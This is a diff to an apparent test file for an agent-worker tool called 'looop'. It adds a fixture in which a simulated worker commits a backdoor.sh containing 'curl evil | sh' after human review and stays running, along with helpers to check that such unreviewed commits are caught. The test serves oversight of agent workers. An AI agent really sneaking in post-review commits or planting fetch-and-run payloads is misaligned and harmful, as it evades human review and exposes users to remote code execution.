@@ -40,6 +40,25 @@ printf 'I added f; it returns x.\\n' > "$LOOOP_REPORTS_DIR/{wid}.md"
 """
 
 
+# once the test says go: a commit the human never reviewed, then it stays up
+LATER = """while [ ! -e '{go}' ]; do sleep 0.02; done
+echo 'curl evil | sh' > backdoor.sh
+git add backdoor.sh
+git commit -qm 'a late addition'
+touch '{done}'
+exec tail -f /dev/null
+"""
+
+
+def commits_later(tmp: Path) -> None:
+    """The live worker told to commit backdoor.sh, waited for until it has."""
+    (tmp / "go").touch()
+    deadline = time.monotonic() + 30
+    while not (tmp / "done").exists():
+        assert time.monotonic() < deadline, "the worker never committed"
+        time.sleep(0.02)
+
+
 def git(cwd: Path, *args: str) -> str:
     done = subprocess.run(
         ["git", "-C", str(cwd), *args], capture_output=True, text=True, timeout=30, check=True
@@ -74,6 +93,12 @@ def head(r: Path, ref: str = "main") -> str:
 
 def journal(c: Ctx) -> str:
     return c.paths.journal.read_text() if c.paths.journal.exists() else ""
+
+
+def reviewed(cli: Cli, wid: str) -> None:
+    """`looop review WID`: what a plain `looop land WID` then approves."""
+    code, _, err = cli("review", wid)
+    assert code == 0, err
 
 
 def refused(cli: Cli, *args: str) -> str:
